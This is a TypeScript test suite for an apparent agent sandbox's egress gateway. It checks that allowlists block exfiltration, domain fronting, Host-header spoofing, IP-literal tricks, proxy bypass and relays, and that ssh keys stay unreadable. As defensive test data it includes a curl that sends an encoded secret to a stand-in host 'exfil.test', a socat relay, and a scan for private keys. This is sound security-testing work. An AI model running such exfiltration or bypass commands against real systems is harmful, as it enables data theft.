import { execFileSync } from 'node:child_process';
import { createServer as createHttpServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Moat } from '../../src/index.js';
import { DnsStub } from '../helpers/dns-stub.js';
import { captureIO, eventually, remoteEngine, Scratch, selfSigned } from '../helpers/fixtures.js';
import { underGvisor } from '../helpers/gvisor.js';

/** The way out is moat's exec bridge: on a remote engine, and under gVisor (which cannot connect a host socket). */
const bridged = async () => (await remoteEngine()) || underGvisor();

/**
 * The egress gateway, end to end: real sandboxes, the real gateway process, local upstream
 * servers on loopback, and a DNS stub that records every query. Allowed names map to 127.0.0.1,
 * which the policy admits by an explicit CIDR rule (loopback is refused otherwise).
 */
describe('egress through the gateway', () => {
  const scratch = new Scratch();
  const dns = new DnsStub({ 'allowed.test': '127.0.0.1', 'api.wild.test': '127.0.0.1', 'meta.test': '169.254.169.254', 'private.test': '10.0.0.1' });
  const seen: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
  let http: Server;
  let https: Server;
  let moat: Moat;
  let otherMoat: Moat;

  const listen = (server: Server) =>
    new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as { port: number }).port)));
  let httpPort = 0;
  let httpsPort = 0;

  beforeAll(async () => {
    await dns.start();
    const handler = (req: { url?: string; headers: IncomingHttpHeaders }, res: { end: (body: string) => void }) => {
      seen.push({ url: req.url ?? '', headers: req.headers });
      res.end(`upstream saw ${req.url}\n`);
    };
    http = createHttpServer(handler);
    https = createHttpsServer(selfSigned(scratch.root, 'allowed.test'), handler);
    httpPort = await listen(http);
    httpsPort = await listen(https);
    scratch.writeConfig(`egress:\n  allow: [allowed.test, "*.wild.test", meta.test, private.test, 127.0.0.1/32]\n  deny: [blocked.allowed.test]\n`);
    moat = scratch.moat({ env: { MOAT_GATEWAY_DNS: `127.0.0.1:${dns.port}` } });
    await moat.up({ task: 'net', network: 'allowlist' });
    await moat.up({ task: 'off' });
    otherMoat = moat;
  });
  afterAll(async () => {
    http.close();
    https.close();
    dns.stop();
    await scratch.cleanup();
  });

  async function curl(task: string, args: string): Promise<{ code: number; out: string }> {
    const before = (await moat.egress(task)).length;
    const cap = captureIO();
    const result = await moat.exec(task, ['sh', '-c', `curl -sS -m 10 ${args} 2>&1; echo "exit=$?"`], cap.io, { sync: false });
    expect(result.exitCode).toBe(0);
    const out = cap.out();
    // An allowed connection is logged when it closes, a moment after the client is done.
    await eventually(
      () => moat.egress(task),
      (a) => a.length > before || out.includes('Could not resolve'),
      2000,
    );
    return { code: Number(/exit=(\d+)\s*$/.exec(out)?.[1] ?? -1), out };
  }
  const audit = async () => moat.egress('net');
  const lastAudit = async () => (await audit()).at(-1)!;

  it('network none (the default): no interface, no proxy, no gateway socket, no DNS', async () => {
    const cap = captureIO();
    await moat.exec(
      'off',
      ['sh', '-c', 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " "; env | grep -ci proxy; ls /moat 2>&1; getent hosts allowed.test || echo no-dns'],
      cap.io,
      { sync: false },
    );
    // gVisor reports the absent /moat as EINVAL rather than ENOENT; it is absent all the same.
    const absent = underGvisor() ? "ls: cannot access '/moat': Invalid argument" : "ls: cannot access '/moat': No such file or directory";
    expect(cap.out().split('\n')).toEqual(['lo', '0', absent, 'no-dns', '']);
  });

  it('allows an allowlisted name over HTTP, logging the resolved address', async () => {
    const r = await curl('net', `http://allowed.test:${httpPort}/hello`);
    expect(r.out).toContain('upstream saw /hello');
    expect(await lastAudit()).toMatchObject({
      method: 'GET',
      host: 'allowed.test',
      port: httpPort,
      address: '127.0.0.1',
      decision: 'allowed',
      rule: 'allow allowed.test',
    });
    expect((await lastAudit()).bytesDown).toBeGreaterThan(0);
  });

  it('allows an allowlisted name over HTTPS (CONNECT), checking the TLS server name', async () => {
    const r = await curl('net', `-k https://allowed.test:${httpsPort}/secure`);
    expect(r.out).toContain('upstream saw /secure');
    expect(await lastAudit()).toMatchObject({ method: 'CONNECT', host: 'allowed.test', sni: 'allowed.test', decision: 'allowed' });
  });

  it('refuses a name that is not allowed, without looking it up', async () => {
    const before = dns.queries.length;
    const r = await curl('net', `http://exfil.test/?d=$(echo secret | base64)`);
    expect(r.out).toContain('egress denied');
    expect(await lastAudit()).toMatchObject({ host: 'exfil.test', decision: 'denied' });
    const https = await curl('net', '-k https://exfil.test/');
    expect(https.code).not.toBe(0);
    expect(dns.queries.slice(before)).not.toContain('exfil.test');
  });

  it('deny wins over an allowing wildcard; wildcards match subdomains only', async () => {
    expect((await curl('net', `http://blocked.allowed.test:${httpPort}/`)).out).toContain('egress denied');
    expect(await lastAudit()).toMatchObject({ decision: 'denied', rule: 'deny blocked.allowed.test' });
    expect((await curl('net', `http://api.wild.test:${httpPort}/w`)).out).toContain('upstream saw /w');
    expect((await curl('net', `http://wild.test:${httpPort}/`)).out).toContain('egress denied');
  });

  it('refuses IP literals in any spelling unless listed', async () => {
    for (const host of ['2130706434', '0x7f.0.0.2', '127.2', '[::1]', '[::ffff:127.0.0.2]']) {
      // Through the proxy explicitly: loopback spellings are otherwise the sandbox's own (NO_PROXY).
      const r = await curl('net', `--noproxy '' http://${host}:${httpPort}/`);
      expect(r.out, host).toContain('egress denied');
    }
    expect(seen.filter((s) => s.url === '/').length).toBe(0);
  });

  it('refuses metadata and private addresses behind allowed names, without connecting', async () => {
    expect((await curl('net', 'http://meta.test/latest/meta-data/')).out).toContain('egress denied');
    expect(await lastAudit()).toMatchObject({ decision: 'denied', rule: expect.stringContaining('metadata address 169.254.169.254') });
    expect((await curl('net', 'http://private.test/')).out).toContain('egress denied');
    expect(await lastAudit()).toMatchObject({ decision: 'denied', rule: expect.stringContaining('private address 10.0.0.1') });
  });

  it('refuses a TLS server name other than the CONNECT host (domain fronting)', async () => {
    const r = await curl('net', `-k --connect-to evil.test:${httpsPort}:allowed.test:${httpsPort} https://evil.test:${httpsPort}/`);
    expect(r.code).not.toBe(0);
    expect(await lastAudit()).toMatchObject({ method: 'CONNECT', host: 'allowed.test', sni: 'evil.test', decision: 'denied' });
  });

  it('refuses a Host header that is not the request target', async () => {
    const r = await curl('net', `-H "Host: evil.test" http://allowed.test:${httpPort}/`);
    expect(r.out).toContain('egress denied');
    expect(await lastAudit()).toMatchObject({ decision: 'denied', rule: expect.stringContaining('Host header') });
  });

  it('a program that ignores the proxy variables gets no connection at all', async () => {
    const count = (await audit()).length;
    const r = await curl('net', `--noproxy '*' http://allowed.test:${httpPort}/direct`);
    expect(r.code).not.toBe(0);
    const cap = captureIO();
    await moat.exec(
      'net',
      ['sh', '-c', `getent hosts allowed.test || echo no-dns; echo x | socat -u - UDP-SENDTO:127.0.0.53:53 2>&1 | head -1; echo done`],
      cap.io,
      { sync: false },
    );
    expect(cap.out()).toContain('no-dns');
    expect((await audit()).length).toBe(count);
    expect(seen.some((s) => s.url === '/direct')).toBe(false);
  });

  it('a relay inside the sandbox gains nothing: the gateway judges every connection', async () => {
    const cap = captureIO();
    // Locally the relay goes to the gateway's socket; on a remote engine (no such socket) to the bridged proxy port.
    const target = (await bridged()) ? 'TCP:127.0.0.1:3128' : 'UNIX-CONNECT:/moat/egress/p.sock';
    await moat.exec(
      'net',
      [
        'sh',
        '-c',
        `(socat TCP-LISTEN:9999,bind=127.0.0.1,fork ${target} &) ; sleep 0.5; curl -sS -m 5 -x http://127.0.0.1:9999 http://exfil.test/ 2>&1; curl -sS -m 5 -x http://127.0.0.1:9999 http://allowed.test:${httpPort}/relay 2>&1; pkill -f TCP-LISTEN:9999`,
      ],
      cap.io,
      { sync: false },
    );
    expect(cap.out()).toContain('egress denied');
    expect(cap.out()).toContain('upstream saw /relay');
  });

  it("the proxy port is the gateway's own socket, handed over by moat's helper: no relay runs in the sandbox", async () => {
    const cap = captureIO();
    if (await bridged()) {
      // No host socket or helper can reach a sandbox there: the port is moat's exec bridge, and still the gateway's.
      await moat.exec('net', ['sh', '-c', 'ps -eo args; ls -A /moat/egress; ls /moat/bin 2>&1'], cap.io, { sync: false });
      expect(cap.out()).not.toContain('moat-handoff /moat');
      expect(cap.out()).not.toMatch(/\.sock/);
      expect(cap.out()).toMatch(/socat (-b \d+ )?TCP-LISTEN:3128,bind=127\.0\.0\.1/);
      expect((await curl('net', `http://allowed.test:${httpPort}/handed`)).out).toContain('upstream saw /handed');
      return;
    }
    await moat.exec('net', ['sh', '-c', 'ps -eo args'], cap.io, { sync: false });
    expect(cap.out()).toContain('/moat/bin/moat-handoff /moat/egress/h.sock 3128');
    expect(cap.out()).not.toMatch(/^socat/m);
    expect((await curl('net', `http://allowed.test:${httpPort}/handed`)).out).toContain('upstream saw /handed');
  });

  it('a listener the agent hands over itself gains nothing, and the proxy port comes back after it', async () => {
    const cap = captureIO();
    if (await bridged()) {
      // No helper to hand a listener over with; the agent killing the bridge's listener only stops it
      // for a moment: the bridge starts it again, and the gateway still judges what comes through.
      await moat.exec('net', ['sh', '-c', 'test ! -e /moat/bin/moat-handoff && echo no-helper; pkill -f "TCP-LISTE[N]:3128" && echo killed'], cap.io, {
        sync: false,
      });
      expect(cap.out()).toContain('no-helper');
      expect(cap.out()).toContain('killed');
      let after = '';
      for (let i = 0; i < 20 && !after.includes('upstream saw /after'); i += 1) {
        await new Promise((r) => setTimeout(r, 500));
        after = (await curl('net', `http://allowed.test:${httpPort}/after`)).out;
      }
      expect(after).toContain('upstream saw /after');
      expect((await curl('net', 'http://exfil.test/')).out).toContain('egress denied');
      return;
    }
    await moat.exec(
      'net',
      [
        'sh',
        '-c',
        `(timeout 3 /moat/bin/moat-handoff /moat/egress/h.sock 9998 &) ; sleep 0.5; curl -sS -m 5 -x http://127.0.0.1:9998 http://exfil.test/ 2>&1; curl -sS -m 5 -x http://127.0.0.1:9998 http://allowed.test:${httpPort}/own 2>&1; sleep 3`,
      ],
      cap.io,
      { sync: false },
    );
    expect(cap.out()).toContain('egress denied');
    expect(cap.out()).toContain('upstream saw /own');
    expect((await curl('net', `http://allowed.test:${httpPort}/after`)).out).toContain('upstream saw /after');
  });

  it('moat deny and moat allow change a running task at once', async () => {
    await moat.changeEgress('net', { deny: ['allowed.test'] });
    expect((await curl('net', `http://allowed.test:${httpPort}/`)).out).toContain('egress denied');
    await moat.changeEgress('net', { allow: ['allowed.test'] });
    expect((await curl('net', `http://allowed.test:${httpPort}/again`)).out).toContain('upstream saw /again');
  });

  it('tasks with different policies share one gateway without sharing policies', async () => {
    await otherMoat.up({ task: 'narrow', network: 'allowlist' });
    await otherMoat.changeEgress('narrow', { deny: ['allowed.test'] });
    const [wide, narrow] = await Promise.all([curl('net', `http://allowed.test:${httpPort}/wide`), curl('narrow', `http://allowed.test:${httpPort}/narrow`)]);
    expect(wide.out).toContain('upstream saw /wide');
    expect(narrow.out).toContain('egress denied');
  });

  it("the gateway socket is the sandbox user's alone (other host accounts cannot use the task's grants)", async () => {
    const { statSync, readdirSync } = await import('node:fs');
    const dirs = readdirSync(join(scratch.home, 's'));
    expect(dirs.length).toBeGreaterThan(0);
    for (const dir of dirs) {
      for (const name of ['p.sock', 'h.sock']) {
        const info = statSync(join(scratch.home, 's', dir, name));
        expect(info.mode & 0o777).toBe(0o600);
        expect(info.uid).toBe(process.getuid!() === 0 ? 1000 : process.getuid!());
      }
    }
  });

  it('ls counts allowed and denied attempts', async () => {
    const row = (await moat.ls()).find((t) => t.name === 'net')!;
    expect(row.egress.allowed).toBeGreaterThan(3);
    expect(row.egress.denied).toBeGreaterThan(5);
  });
});

describe("ssh through the gateway, with a task's own agent", () => {
  const scratch = new Scratch();
  const dns = new DnsStub({ 'git.test': '127.0.0.1' });
  let echo: import('node:net').Server;
  let port = 0;

  beforeAll(async () => {
    await dns.start();
    const { createServer } = await import('node:net');
    // A plain TCP service (like ssh: not TLS) that echoes a line.
    echo = createServer((s) => s.on('data', (d) => s.end(`echo:${d.toString().trim()}\n`)));
    await new Promise<void>((resolve) => echo.listen(0, '127.0.0.1', () => resolve()));
    port = (echo.address() as { port: number }).port;
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'moat-test-key', '-f', join(scratch.root, 'id_test')]);
  });
  afterAll(async () => {
    echo.close();
    dns.stop();
    await scratch.cleanup();
  });

  it('the sandbox can use the key through the agent but never read it; host:port rules admit non-TLS tunnels', async () => {
    scratch.writeConfig(`ssh:\n  keys: [${join(scratch.root, 'id_test')}]\negress:\n  allow: ["git.test:${port}", 127.0.0.1/32]\n`);
    const moat = scratch.moat({ env: { MOAT_GATEWAY_DNS: `127.0.0.1:${dns.port}` } });
    if (await bridged()) {
      // The task's ssh-agent is a host socket: on an engine that does not share this host, or under gVisor, it is refused, nothing made.
      await expect(moat.up({ task: 'ssh', network: 'allowlist' })).rejects.toMatchObject({ code: 'E_USAGE', exitCode: 2 });
      expect(await moat.ls()).toEqual([]);
      return;
    }
    await moat.up({ task: 'ssh', network: 'allowlist' });
    const cap = captureIO();
    const script = [
      'ssh-add -l | grep -c moat-test-key',
      'ls -A ~/.ssh',
      'ssh-add -L > /tmp/k.pub && echo data > /tmp/f && ssh-keygen -Y sign -f /tmp/k.pub -n file /tmp/f >/dev/null 2>&1 && test -s /tmp/f.sig && echo signed',
      `echo hello | socat - PROXY:127.0.0.1:git.test:${port},proxyport=3128`,
      'grep -rsl "OPENSSH PRIVATE KEY" /home /tmp /workspace /moat 2>/dev/null | head -1; echo scanned',
    ].join('; ');
    await moat.exec('ssh', ['sh', '-c', script], cap.io, { sync: false });
    const lines = cap.out().trim().split('\n');
    expect(lines).toEqual(['1', 'config', 'signed', 'echo:hello', 'scanned']);
    // A tunnel is logged when it closes, a moment after the client is done.
    const entry = (
      await eventually(
        () => moat.egress('ssh'),
        (a) => a.at(-1)?.host === 'git.test',
      )
    ).at(-1);
    expect(entry).toMatchObject({ host: 'git.test', decision: 'allowed', rule: expect.stringContaining('any protocol') });
    // Without the port in the rule, a tunnel must carry TLS for that name.
    await moat.changeEgress('ssh', { deny: [`git.test:${port}`], allow: ['git.test'] });
    const denied = captureIO();
    await moat.exec('ssh', ['sh', '-c', `echo hello | timeout 15 socat - PROXY:127.0.0.1:git.test:${port},proxyport=3128 2>&1; echo done`], denied.io, {
      sync: false,
    });
    expect(denied.out()).not.toContain('echo:hello');
    await moat.down('ssh');
    await moat.rm('ssh', { force: true });
  });
});

describe('the gateway comes back', () => {
  const scratch = new Scratch();
  afterAll(() => scratch.cleanup());

  it('after the gateway process dies, the next moat command brings it back for the task', async () => {
    const { readFileSync: read } = await import('node:fs');
    const moat = scratch.moat();
    await moat.up({ task: 'revive', network: 'allowlist' });
    const pid = Number(read(join(scratch.home, 'gateway', 'pid'), 'utf8'));
    process.kill(pid, 'SIGKILL');
    await new Promise((r) => setTimeout(r, 200));
    const cap = captureIO();
    await moat.exec('revive', ['sh', '-c', 'curl -sS -m 5 http://exfil.test/ 2>&1'], cap.io, { sync: false });
    expect(cap.out()).toContain('egress denied');
    expect(Number(read(join(scratch.home, 'gateway', 'pid'), 'utf8'))).not.toBe(pid);
  });
});
